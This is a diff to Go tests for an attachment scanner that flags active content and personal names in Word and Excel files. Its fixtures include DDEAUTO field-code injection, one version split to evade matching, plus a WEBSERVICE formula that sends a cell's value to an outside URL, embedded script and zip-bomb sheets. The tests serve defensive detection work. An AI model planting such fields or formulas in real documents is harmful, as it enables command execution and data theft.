@@ -149,9 +149,45 @@ func TestAttachmentsThatAreRefused(t *testing.T) {
 		{"field.docx", archive(t, "word/document.xml", `<w:p><w:instrText> DDEAUTO c:\\x </w:instrText></w:p>`), personal.ErrActive},
 		{"link.docx", relation("hyperlink"), nil},
 		{"bomb.docx", bomb(t), personal.ErrClosed},
+		{"repeated.xlsx", archive(t, "xl/worksheets/sheet1.xml", "<worksheet>"+strings.Repeat(`<row>`+strings.Repeat(`<c t="s"><v>0</v></c>`, 20)+"</row>", 1000)+"</worksheet>",
+			"xl/sharedStrings.xml", "<sst><si><t>"+strings.Repeat("nghèo ", 1000)+"</t></si></sst>"), personal.ErrClosed},
+		{"renamed-macro.docx", archive(t, "word/document.xml", "<a/>", "word/theme/macro.dat", "x"), personal.ErrActive},
+		{"page.docx", archive(t, "word/document.xml", "<a/>", "word/chunk.html", "<script>"), personal.ErrActive},
+		{"split-field.docx", archive(t, "word/document.xml", `<document><fldChar/><instrText>DD</instrText><instrText>EAUTO c:\\x</instrText><fldChar/></document>`), personal.ErrActive},
+		{"asks.xlsx", archive(t, "xl/worksheets/sheet1.xml", `<worksheet><row><c><f>WEBSERVICE("https://example.org/"&amp;A1)</f><v>1</v></c></row></worksheet>`), personal.ErrActive},
+		{"query.xlsx", archive(t, append(sheet, "xl/connections.xml", "<connections/>")...), personal.ErrActive},
+		{"scan.docx", archive(t, "word/document.xml", "<document><p></p></document>", "word/media/image1.png", "x"), personal.ErrClosed},
 	} {
 		if _, err := l.Attachment(tt.name, tt.data); !errors.Is(err, tt.want) {
 			t.Errorf("%s: error %v, want %v", tt.name, err, tt.want)
+		}
+	}
+}
+
+// Names of parts are free, and people are named in more places than the text.
+func TestEveryPartOfAnOfficeFile(t *testing.T) {
+	const told = "Chủ hộ: Lý Thị Mẩy"
+	text := "<hdr><p><r><t>" + told + "</t></r></p></hdr>"
+	sheet := func(more string) string {
+		return "<worksheet><sheetData><row><c t=\"inlineStr\"><is><t>Kế hoạch</t></is></c></row></sheetData>" + more + "</worksheet>"
+	}
+	l := personal.New(personal.Allow{})
+	for name, files := range map[string][]string{
+		"header.docx":   {"word/document.xml", "<document/>", "word/phan-dau.xml", text},
+		"main.docx":     {"word/document.xml", "<document/>", "word/khac.xml", "<document><p><t>" + told + "</t></p></document>"},
+		"custom.docx":   {"word/document.xml", "<document/>", "customXml/item1.xml", "<x>" + told + "</x>"},
+		"name.xlsx":     {"xl/worksheets/sheet1.xml", sheet(""), "xl/workbook.xml", `<workbook><sheets><sheet name="` + told + `" state="veryHidden"/></sheets></workbook>`},
+		"pivot.xlsx":    {"xl/worksheets/sheet1.xml", sheet(""), "xl/pivotCache/pivotCacheRecords1.xml", `<pivotCacheRecords><r><s v="` + told + `"/></r></pivotCacheRecords>`},
+		"footer.xlsx":   {"xl/worksheets/sheet1.xml", sheet("<headerFooter><oddFooter>" + told + "</oddFooter></headerFooter>")},
+		"question.xlsx": {"xl/worksheets/sheet1.xml", sheet(`<dataValidations><dataValidation prompt="` + told + `"/></dataValidations>`)},
+		"formula.xlsx":  {"xl/worksheets/sheet1.xml", sheet(`<row><c><f>"` + told + `"</f></c></row>`)},
+		"comment.xlsx":  {"xl/worksheets/sheet1.xml", sheet(""), "xl/khac.xml", "<comments><comment><text><r><t>Chủ hộ: Lý </t></r><r><t>Thị Mẩy</t></r></text></comment></comments>"},
+		"letterhead.xlsx": {"xl/worksheets/sheet1.xml", `<worksheet><row><c t="str"><v>UBND XÃ</v></c><c t="str"><v>CỘNG HÒA</v></c></row>
+<row><c t="str"><v>STT</v></c><c t="str"><v>Chủ hộ</v></c></row><row><c><v>1</v></c><c t="str"><v>Lý Mẩy</v></c></row></worksheet>`},
+	} {
+		found, err := l.Attachment(name, archive(t, files...))
+		if err != nil || !slices.ContainsFunc(found, func(f personal.Located) bool { return f.Kind == personal.Household || f.Kind == personal.Person }) {
+			t.Errorf("%s: got %v, %v, want the household", name, found, err)
 		}
 	}
 }
